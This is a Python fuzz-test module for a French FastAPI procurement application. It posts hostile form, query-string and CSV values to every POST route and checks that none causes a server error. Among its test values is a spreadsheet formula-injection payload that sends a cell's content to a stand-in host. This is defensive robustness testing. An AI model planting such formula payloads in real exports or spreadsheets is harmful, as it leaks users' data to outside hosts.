"""No value typed in a form, a query string or a CSV statement gives a server error (issue 20,
finding 5: 43 server errors from input, such as « version=² » on any save, « retirer=² »,
« entry=² », « annee=² », a CSV lot « ² », « action=add_holder:² », NUL bytes in a comment, an
e-mail or a name on PostgreSQL, a name longer than its column).

The fields are those the pages show: every form of every page of a dossier at each stage is
read from its HTML (names, and the values its fields, options and buttons carry), then
Hypothesis posts them to the form's route with some values replaced by hostile ones (other
scripts' digits, NUL bytes, texts past their columns, impossible and implausible dates,
numbers past every limit). Every POST route of the pages is covered
(:func:`test_every_form_route_is_fuzzed`). On SQLite and PostgreSQL."""

from __future__ import annotations

import re
import uuid
from collections import defaultdict
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.routing import iter_route_contexts
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from clauses.decp import DecpSchema
from clauses.store import accounts, crud, stages
from clauses.store.db import new_session
from clauses.store.models import NAME_MAX, DossierCreate, Role, Stage
from tests.moves import HOURS_LINE_FORM as LINE
from tests.moves import move_in, move_to
from tests.web.conftest import (
    PASSWORD,
    QUICK_HASHER,
    TOKEN_RE,
    Browser,
    people_of,
    sign_in,
    text_of,
)
from tests.web.stages import place_at

SOURCE = Path(__file__).resolve().parents[2] / "src" / "clauses"
HOSTILE = [
    "²",
    "٣",
    "１２",
    "\x00",
    "1\x00",
    "a\x00b@region.test",
    "-1",
    "0",
    "99999999999",
    "9" * 5000,
    "1e309",
    "nan",
    "0001-01-01",
    "9999-12-31",
    "31/02/2027",
    "01/01/0001",
    "x" * 201,
    "é" * 2001,
    "a" * 255 + "@region.test",
    '=HYPERLINK("http://exemple.test/?fuite="&A1,"Voir")',
    " ",
    "",
]
# Where a value has a shape (« remove_lot-3 », « add_holder:lots-2-holders »), the digits of
# that shape are replaced too.
DIGITS = re.compile(r"[0-9]+")
# Routes whose form no page shows to a signed-in member: the setup link (accounts exist), and
# the OpenID link (no provider configured here). Posted with made-up fields all the same.
FORMLESS = {"/installation/{token}", "/connexion/oidc/relier"}
ANONYMOUS = {"/connexion", "/invitations/{token}", "/installation/{token}"}


class Forms(HTMLParser):
    """The forms of a page: for each action, its fields' names and the values they carry."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, set[str]]]] = []
        self._fields: dict[str, set[str]] | None = None
        self._select: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {k: v or "" for k, v in attrs}
        if tag == "form" and given.get("method", "").lower() == "post":
            self._fields = defaultdict(set)
            self.found.append((given.get("action", ""), self._fields))
        elif self._fields is not None and "name" in given:
            if tag in {"input", "button", "textarea"}:
                self._fields[given["name"]].add(given.get("value", ""))
            elif tag == "select":
                self._select = given["name"]
                self._fields[given["name"]]
        elif tag == "option" and self._fields is not None and self._select:
            self._fields[self._select].add(given.get("value", ""))

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._fields = None
        elif tag == "select":
            self._select = None


def pattern_of(path: str) -> str:
    """A concrete path as its route's pattern (the dossier's id, the step, the token)."""
    path = re.sub(r"/dossiers/[0-9a-f-]{36}", "/dossiers/{dossier_id}", path.split("?")[0])
    path = re.sub(r"/etapes/[^/]+$", "/etapes/{step_id}", path)
    path = re.sub(r"/documents/[0-9a-f-]{36}", "/documents/{document_id}", path)
    return re.sub(r"^/(invitations|installation)/[^/]+$", r"/\1/{token}", path)


# The stage of the dossier each route is posted on (the others: a complete draft).
STAGE = {
    "depublier": Stage.published,
    "attribution": Stage.published,
    "executer": Stage.awarded,
    "clore": Stage.in_execution,
    "rouvrir": Stage.closed,
}


@dataclass
class Arena:
    app: FastAPI
    client: TestClient
    forms: dict[str, dict[str, set[str]]] = field(default_factory=lambda: defaultdict(dict))
    pages: set[str] = field(default_factory=set)
    dossiers: dict[str, uuid.UUID] = field(default_factory=dict)

    def dossier(self, stage: Stage | None) -> uuid.UUID:
        """A new dossier of « Région Test » at ``stage`` (None: followed, in execution, with
        lots)."""
        ctx = self.app.state.ctx
        people = people_of(self.app)
        with new_session(ctx.engine) as session:
            membership = accounts.membership_of(session, people.admin.id)
            assert membership is not None
            made = crud.create_dossier(
                session=session,
                dossier_in=DossierCreate(title="Dossier éprouvé"),
                organisation_id=membership.organisation_id,
                author_id=people.admin.id,
            ).id
            if stage is None:
                move_to(
                    session,
                    ctx.library,
                    DecpSchema.load(),
                    made,
                    "lycee-rehabilitation",
                    Stage.in_execution,
                )
        if stage is not None:
            place_at(self.app, made, stage)
        return made

    def invitation(self) -> str:
        people = people_of(self.app)
        with new_session(self.app.state.ctx.engine) as session:
            return accounts.invite(
                session,
                dossier_id=self.dossier(Stage.draft),
                email=f"{uuid.uuid4().hex[:8]}@emploi.test",
                invited_by=people.referent.id,
                days=1,
            )

    def target(self, route: str) -> uuid.UUID:
        """The dossier a route is posted on (made again after each change of stage)."""
        move = route.split("/")[3] if route.count("/") >= 3 else ""
        if route not in self.dossiers:
            followed = "/suivi" in route
            self.dossiers[route] = self.dossier(None if followed else STAGE.get(move, Stage.draft))
        return self.dossiers[route]

    def url(self, route: str, step: str = "marche") -> str:
        return route.format(
            dossier_id=self.target(route) if "{dossier_id}" in route else "",
            step_id=step,
            token=self.invitation() if route.startswith("/invitations/") else "jeton",
        )

    def as_visitor(self, route: str) -> str:
        """Sign in as the admin (every right on the dossiers), or out for the anonymous forms;
        the CSRF token of that session."""
        self.client.cookies.clear()
        if route not in ANONYMOUS:
            sign_in(self.client, "admin")
        match = TOKEN_RE.search(self.client.get("/connexion").text)
        assert match is not None
        return match.group(1)

    def harvest(self, url: str, anonymous: bool = False) -> None:
        self.client.cookies.clear()
        if not anonymous:
            sign_in(self.client, "admin")
        page = self.client.get(url)
        assert page.status_code == 200, (url, page.status_code)
        self.pages.add(url)
        reader = Forms()
        reader.feed(page.text)
        for action, fields in reader.found:
            route = pattern_of(action)
            for name, values in fields.items():
                self.forms[route].setdefault(name, set()).update(values)


@pytest.fixture(scope="module")
def arena(app: FastAPI) -> Iterator[Arena]:
    with TestClient(app) as client:
        arena = Arena(app, client)
        draft, followed = arena.dossier(Stage.draft), arena.dossier(None)
        for stage in (Stage.published, Stage.awarded, Stage.in_execution, Stage.closed):
            arena.harvest(f"/dossiers/{arena.dossier(stage)}")
        published = arena.dossier(Stage.published)
        arena.harvest(f"/dossiers/{published}/attribution")
        for step in app.state.ctx.library.questionnaire.steps:
            arena.harvest(f"/dossiers/{draft}/etapes/{step.id}")
        for page in ("", "/documents", "/renommer", "/supprimer", "/commentaires", "/invitations"):
            arena.harvest(f"/dossiers/{draft}{page}")
        arena.harvest(f"/dossiers/{followed}/suivi")
        for page in ("/", "/dossiers", "/compte"):
            arena.harvest(page)
        arena.harvest("/connexion", anonymous=True)
        arena.harvest(f"/invitations/{arena.invitation()}", anonymous=True)
        for route in FORMLESS:
            arena.forms[route] = {"password": set(), "email": set()}
        yield arena


def form_routes(app: FastAPI) -> set[str]:
    """The POST routes of the pages (the JSON API's are schemathesis's, tests/web/test_api_schema.py)."""
    return {
        path
        for route in app.routes
        if "POST" in (getattr(route, "methods", None) or ())
        and not (path := getattr(route, "path", "")).startswith("/api/")
    }


def test_every_form_route_is_fuzzed(arena: Arena) -> None:
    assert form_routes(arena.app) - set(arena.forms) == set()


def hostile_of(seen: str) -> st.SearchStrategy[str]:
    """A hostile value for a field that carried ``seen`` (a shape's digits replaced too)."""
    shaped = [DIGITS.sub(value, seen) for value in ("²", "٣", "99999999999", "9" * 5000)]
    return st.sampled_from(HOSTILE + (shaped if DIGITS.search(seen) else []))


@st.composite
def filled(draw: st.DrawFn, fields: dict[str, set[str]]) -> dict[str, str]:
    """The form as a page sends it, some of its values replaced by hostile ones, some fields
    left out, perhaps one unknown."""
    form: dict[str, str] = {}
    for name in sorted(fields):
        if name == "csrf_token" or draw(st.integers(0, 9)) == 0:
            continue
        seen = draw(st.sampled_from(sorted(fields[name]) or [""]))
        form[name] = draw(st.one_of(st.just(seen), hostile_of(seen), st.text(max_size=30)))
    if draw(st.booleans()):
        form[draw(st.sampled_from(["x²", "lots-²-title", "\x00", "version"]))] = draw(
            st.sampled_from(HOSTILE)
        )
    return form


CHANGES_STAGE = ("publier", "depublier", "attribution", "executer", "clore", "rouvrir")


@settings(
    max_examples=250,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(data=st.data())
def test_no_form_value_is_a_server_error(arena: Arena, data: st.DataObject) -> None:
    route = data.draw(st.sampled_from(sorted(arena.forms)))
    form = data.draw(filled(arena.forms[route]))
    token = arena.as_visitor(route)
    steps = [step.id for step in arena.app.state.ctx.library.questionnaire.steps]
    url = arena.url(route, data.draw(st.sampled_from(steps)))
    files = None
    if route.endswith(("/documents/modele", "/suivi/import")):
        files = {
            "modele" if "modele" in route else "releve": (
                "fichier.docx" if "modele" in route else "releve.csv",
                data.draw(st.sampled_from(HOSTILE)).encode("utf-8", "surrogatepass"),
            )
        }
    response = arena.client.post(
        url, data={"csrf_token": token, **form}, files=files, follow_redirects=False
    )
    assert response.status_code < 500, (route, form)
    if response.status_code == 303 and route.endswith((*CHANGES_STAGE, "/supprimer")):
        arena.dossiers.pop(route, None)


HEADER = "lot;debut;fin;modalite;structure;heures;public;type_contrat;personnes;sortie_6_mois;justification"
CELLS = [
    "1", "2", "²", "٣", "0", "-1", "99999999999", "9" * 5000, "2027-04-01", "01/04/2027",
    "0001-01-01", "9999-12-31", "31/02/2027", "provision", "direct_hiring", "non_imputable",
    "ETTI", "rsa", "assignment", "employment", "12,5", "1 200,5", "1e309", "nan", "\x00",
    "x" * 3000, '=1+1', "",
]  # fmt: skip


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    rows=st.lists(
        st.lists(st.sampled_from(CELLS) | st.text(max_size=20), min_size=0, max_size=13),
        max_size=8,
    ),
    separator=st.sampled_from([";", ","]),
)
def test_no_statement_is_a_server_error(
    arena: Arena, rows: list[list[str]], separator: str
) -> None:
    route = "/dossiers/{dossier_id}/suivi/import"
    token = arena.as_visitor(route)
    text = "\n".join([HEADER.replace(";", separator)] + [separator.join(row) for row in rows])
    response = arena.client.post(
        arena.url(route),
        data={"csrf_token": token},
        files={"releve": ("releve.csv", text.encode("utf-8", "surrogatepass"), "text/csv")},
        follow_redirects=False,
    )
    assert response.status_code < 500, text[:2000]


QUERY_VALUES = ["²", "٣", "\x00", "-1", "99999999999", "9" * 5000, "0001-01-01", "31/02/2027",
                "nan", "x" * 3000]  # fmt: skip


def declared_queries(app: FastAPI) -> list[tuple[str, list[str]]]:
    """The pages' routes and the query parameters each declares."""
    return [
        (context.path, [param.name for param in dependant.query_params])
        for context in iter_route_contexts(app.routes)
        if (dependant := getattr(context.route, "dependant", None)) is not None
        and dependant.query_params
        and "GET" in (getattr(context.route, "methods", None) or ())
        and not context.path.startswith(("/api/", "/connexion/oidc"))
    ]


def read_by_hand() -> set[str]:
    """The query parameters the code reads itself (``request.query_params.get``)."""
    names: set[str] = set()
    for path in SOURCE.rglob("*.py"):
        names |= set(re.findall(r'query_params\.get\("([a-z_]+)"', path.read_text("utf-8")))
    assert names, f"no query_params.get found below {SOURCE}"  # else no page is probed with them
    return names


def test_no_query_string_is_a_server_error(arena: Arena) -> None:
    """Each query parameter of each page, with each hostile value; the parameters the code
    reads by hand, on every page."""
    asked = [(arena.url(path), names, QUERY_VALUES) for path, names in declared_queries(arena.app)]
    asked += [(page, sorted(read_by_hand()), ["²", "\x00", "x" * 3000]) for page in arena.pages]
    failed = []
    arena.as_visitor("/")
    for url, names, values in asked:
        for name in names:
            for value in values:
                response = arena.client.get(url, params={name: value}, follow_redirects=False)
                if response.status_code >= 500:
                    failed.append((pattern_of(url), name, value[:20]))
    assert failed == []


# The probe's requests (issue 20, finding 5), each as it was sent: no server error, the page the
# value deserves.


def followed_dossier(app: FastAPI, browser: Browser) -> str:
    dossier = browser.new_dossier("Réhabilitation du lycée")
    ctx = app.state.ctx
    move_in(ctx.engine, ctx.library, dossier, "lycee-rehabilitation", Stage.in_execution)
    return dossier


def test_a_save_with_version_superscript_two_is_a_conflict(browser: Browser) -> None:
    dossier = browser.new_dossier()
    saved = browser.post(
        f"/dossiers/{dossier}/etapes/marche", {"version": "²", "action": "save", "title": "x"}
    )
    assert saved.status_code == 409


def test_lots_step_with_retirer_superscript_two_shows_the_step(browser: Browser) -> None:
    dossier = browser.new_dossier()
    assert browser.get(f"/dossiers/{dossier}/etapes/lots?retirer=²").status_code == 200


def test_followup_delete_of_entry_superscript_two_deletes_nothing(
    app: FastAPI, browser: Browser
) -> None:
    dossier = followed_dossier(app, browser)
    gone = browser.post(f"/dossiers/{dossier}/suivi/supprimer", {"entry": "²"})
    assert gone.status_code == 303 and gone.headers["location"].endswith("deja-supprime#lignes")


def test_spaser_of_year_superscript_two_says_which_year_to_type(app: FastAPI) -> None:
    with TestClient(app) as client:
        page = Browser(client, "referent").get("/rapports/spaser?annee=²")
        assert page.status_code == 422
        assert "Année : indiquez une année sur quatre chiffres" in text_of(page.text)


def test_a_statement_with_lot_superscript_two_reports_the_row(
    app: FastAPI, browser: Browser
) -> None:
    dossier = followed_dossier(app, browser)
    csv = "lot;debut;fin;modalite;heures\n²;2027-04-01;2027-06-30;direct_hiring;10\n"
    sent = browser.post(
        f"/dossiers/{dossier}/suivi/import",
        files={"releve": ("releve.csv", csv.encode(), "text/csv")},
    )
    assert sent.status_code == 422
    assert "nombre entier attendu" in text_of(sent.text)


@pytest.mark.parametrize(
    "form",
    [{"action": "add_holder:²"}, {"action": "add_holder:holders", "holders-count": "²"}],
    ids=["action", "holders-count"],
)
def test_an_award_adding_holder_superscript_two_shows_the_form(
    app: FastAPI, browser: Browser, form: dict[str, str]
) -> None:
    dossier = browser.new_dossier()
    place_at(app, dossier, Stage.published)
    version = str(browser.version(dossier))
    page = browser.post(f"/dossiers/{dossier}/attribution", {"version": version, **form})
    assert page.status_code == 200


def test_nul_bytes_in_a_comment_an_invitation_a_sign_in_and_a_name_are_dropped(
    app: FastAPI,
) -> None:
    with TestClient(app) as client:
        referent = Browser(client, "referent")
        dossier = referent.new_dossier()
        commented = referent.post(
            f"/dossiers/{dossier}/commentaires", {"step": "marche", "text": "Vu\x00 !"}
        )
        assert commented.status_code == 303
        assert "Vu !" in text_of(referent.get(f"/dossiers/{dossier}/commentaires").text)
        invited = referent.post(
            f"/dossiers/{dossier}/invitations", {"email": "nul\x00@emploi.test"}
        )
        assert invited.status_code == 200
        link = re.search(r"http://testserver(/invitations/[\w-]+)", invited.text)
        assert link is not None
    with TestClient(app) as client:
        anonymous = Browser(client, None)
        anonymous.get("/connexion")
        refused = anonymous.post("/connexion", {"email": "a\x00@region.test", "password": "x"})
        assert refused.status_code == 422
        anonymous.get(link.group(1))
        made = anonymous.post(
            link.group(1),
            {
                "given_name": "Ca\x00mille",
                "usual_name": "Nul",
                "password": "un mot de passe solide",
                "password_confirm": "un mot de passe solide",
            },
        )
        assert made.status_code == 303
    with new_session(app.state.ctx.engine) as session:
        user = accounts.user_by_email(session, "nul@emploi.test")
        assert user is not None and user.given_name == "Camille"


def test_a_followup_line_by_an_account_of_long_names_keeps_its_author(
    app: FastAPI,
) -> None:
    """Given and usual names of 200 characters each: the line's author is cut to its column."""
    with new_session(app.state.ctx.engine) as session:
        long = accounts.add_user(
            session,
            email="noms.longs@region.test",
            organisation="Région Test",
            role=Role.acheteur,
            password=PASSWORD,
            given_name="G" * NAME_MAX,
            usual_name="U" * NAME_MAX,
            hasher=QUICK_HASHER,
        )
    with TestClient(app) as client:
        browser = Browser(client, long)
        dossier = followed_dossier(app, browser)
        assert browser.post(f"/dossiers/{dossier}/suivi/heures", LINE).status_code == 303
    with new_session(app.state.ctx.engine) as session:
        entries = stages.followup_entries(session=session, dossier_id=uuid.UUID(dossier))
    assert [len(entry.author_name) for entry in entries] == [NAME_MAX]
